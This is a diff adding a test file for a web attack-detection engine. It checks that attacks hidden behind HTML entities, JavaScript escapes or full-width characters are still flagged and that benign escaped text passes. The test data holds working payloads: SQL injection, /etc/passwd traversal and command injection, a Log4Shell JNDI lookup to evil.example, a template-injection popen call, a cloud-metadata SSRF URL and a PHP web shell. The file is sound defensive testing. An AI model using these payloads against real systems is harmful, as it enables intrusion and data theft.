@@ -1,0 +1,94 @@
+// Values an encoder turned into escapes (HTML numeric entities, JS \u and \x escapes, full-width
+// forms): the engine inspects their text once more as a derived target (Target.unescaped), so
+// every detector sees the attack, not only those that read a decoded form of their own.
+import { beforeAll, describe, expect, it } from "vitest";
+import { loadHarness, type Harness } from "../support/harness.js";
+import { inspect, targetForms, type Req } from "../support/engine.js";
+
+let h: Harness;
+beforeAll(async () => {
+  h = await loadHarness();
+});
+
+const hex = (c: string) => c.codePointAt(0)!.toString(16);
+const ENCODERS: Record<string, (s: string) => string> = {
+  "HTML hex entities": (s) => [...s].map((c) => `&#x${hex(c)};`).join(""),
+  "HTML decimal entities": (s) => [...s].map((c) => `&#${c.codePointAt(0)};`).join(""),
+  "HTML entities for symbols": (s) => [...s].map((c) => (/[A-Za-z0-9]/.test(c) ? c : `&#${c.codePointAt(0)};`)).join(""),
+  "JS \\u escapes": (s) => [...s].map((c) => `\\u${hex(c).padStart(4, "0")}`).join(""),
+  "JS \\x escapes": (s) => [...s].map((c) => `\\x${hex(c).padStart(2, "0")}`).join(""),
+  "full-width forms": (s) => [...s].map((c) => (c > " " && c < "\x7f" ? String.fromCodePoint(c.codePointAt(0)! + 0xfee0) : c)).join(""),
+};
+
+// One attack per category whose detector reads the value as sent.
+const ATTACKS: [string, string][] = [
+  ["sqli", "1' UNION SELECT username, password FROM users--"],
+  ["sqli", "' or 1=1--"],
+  ["lfi", "../../../../etc/passwd"],
+  ["rce", "; cat /etc/passwd"],
+  ["java", "${jndi:ldap://evil.example/a}"],
+  ["ssti", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"],
+  ["ssrf", "http://169.254.169.254/latest/meta-data/"],
+  ["php", "<?php system($_GET['c']); ?>"],
+  ["nosql", '{"$ne": null}'],
+];
+
+const carry = (pos: string, v: string): Req => {
+  if (pos === "query") return { path: `/api/items?q=${encodeURIComponent(v)}`, headers: [["host", "svc.local"]] };
+  if (pos === "form") {
+    return { method: "POST", path: "/api/items", headers: [["host", "svc.local"], ["content-type", "application/x-www-form-urlencoded"]], body: "q=" + encodeURIComponent(v) };
+  }
+  return { method: "POST", path: "/api/items", headers: [["host", "svc.local"], ["content-type", "application/json"]], body: JSON.stringify({ item: { q: v } }) };
+};
+
+describe("attacks hidden behind escapes", () => {
+  for (const [encoder, encode] of Object.entries(ENCODERS)) {
+    for (const [category, payload] of ATTACKS) {
+      // full-width `$`, `{`: the NoSQL operator is a JSON key, which no full-width text spells
+      if (encoder === "full-width forms" && category === "nosql") continue;
+      it.each(["query", "form", "json"])(`${encoder}: ${category} ${JSON.stringify(payload.slice(0, 24))} in %s`, (pos) => {
+        const v = inspect(h, carry(pos, encode(payload)));
+        expect(v.attack, JSON.stringify(v.matches)).toBe(true);
+      });
+    }
+  }
+});
+
+describe("Target.unescaped", () => {
+  it.each([
+    ["&#x27;&#x20;&#x6f;&#x72;&#x20;&#x31;&#x3d;&#x31;", "' or 1=1"],
+    ["\\u0027\\u0020or\\u00201=1--", "' or 1=1--"],
+    ["1&#39;&#32;UNION&#32;SELECT&#32;a&#44;b&#32;FROM&#32;t&#45;&#45;", "1' UNION SELECT a,b FROM t--"],
+  ])("decodes %j (an encoder's work)", (value, text) => {
+    expect(targetForms(h, 2, value).unescaped).toBe(text);
+  });
+  it.each([
+    "Tom &amp; Jerry",
+    "It&#39;s fine",
+    "line one\\nline two\\nline three",
+    "^\\d{3}-\\d{4}$",
+    "C:\\Users\\xavier\\AppData\\Local\\Temp",
+    "plain text with nothing escaped",
+    "&#39;&#32;",
+  ])("leaves %j alone (escapes are not most of it, or it is short)", (value) => {
+    expect(targetForms(h, 2, value).unescaped).toBeNull();
+  });
+});
+
+describe("benign text with escapes", () => {
+  it.each([
+    "&lt;p&gt;Hello &amp; welcome to our &lt;strong&gt;new&lt;/strong&gt; store&lt;/p&gt;",
+    "&quot;Don&#39;t panic&quot; &mdash; &lt;em&gt;Douglas Adams&lt;/em&gt;",
+    "It&#39;s O&#39;Brien&#39;s &amp; Sons&#39; order",
+    "&#72;&#101;&#108;&#108;&#111;&#44;&#32;&#87;&#111;&#114;&#108;&#100;&#33;",
+    "\\x48\\x65\\x6c\\x6c\\x6f select something from the menu",
+    "Ｔｏｋｙｏ　Ｓｈｉｎｊｕｋｕ ｓｅｌｅｃｔ ｆｒｏｍ ｍｅｎｕ",
+    "^\\d{3}-\\d{4}$|^\\w+@\\w+\\.\\w{2,}$",
+    "C:\\Users\\xavier\\AppData\\Local\\Temp\\x86\\build.log",
+  ])("%j passes in a JSON body and a form", (value) => {
+    for (const pos of ["form", "json"]) {
+      const v = inspect(h, carry(pos, value));
+      expect(v.attack, `${pos}: ${JSON.stringify(v.matches)}`).toBe(false);
+    }
+  });
+});
